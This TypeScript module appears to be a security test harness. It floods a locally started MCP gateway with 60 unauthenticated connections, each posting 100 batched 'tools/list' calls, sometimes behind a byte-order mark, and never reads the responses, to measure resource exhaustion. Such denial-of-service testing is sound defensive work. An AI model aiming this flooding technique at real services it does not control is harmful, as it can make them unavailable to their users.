import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Target } from '../shared/target.js'
import { type WatchedRun, watchProcess } from './watch-process.js'

const POSTS = 60
const CALLS = 100
/** How long an unlimited gateway needs to create the responses. */
const HELD_MS = 20_000

const LISTS = JSON.stringify(
  Array.from({ length: CALLS }, (_, id) => ({ jsonrpc: '2.0', id, method: 'tools/list' })),
)

const MARK = '\ufeff'

/** Posts batches of tool lists without a key, each on a connection whose response is never read. */
export async function attackWithUnreadBatches(
  target: Target,
  { isMarked }: { readonly isMarked: boolean },
): Promise<WatchedRun<number>> {
  const batch = isMarked ? `${MARK}${LISTS}` : LISTS
  const head = [
    'POST /mcp?toolset=full HTTP/1.1',
    'host: localhost',
    'content-type: application/json',
    'accept: application/json, text/event-stream',
    `content-length: ${Buffer.byteLength(batch)}`,
  ]
  const server = await target.start()
  try {
    return await watchProcess(server, async () => {
      const sockets = await Promise.all(
        Array.from({ length: POSTS }, async () => {
          const socket = connect(server.port, '127.0.0.1').pause()
          socket.on('error', () => {})
          await once(socket, 'connect')
          socket.write(`${head.join('\r\n')}\r\n\r\n${batch}`)
          return socket
        }),
      )
      await sleep(HELD_MS)
      for (const socket of sockets) socket.destroy()
      return sockets.length
    })
  } finally {
    await server.stop()
  }
}
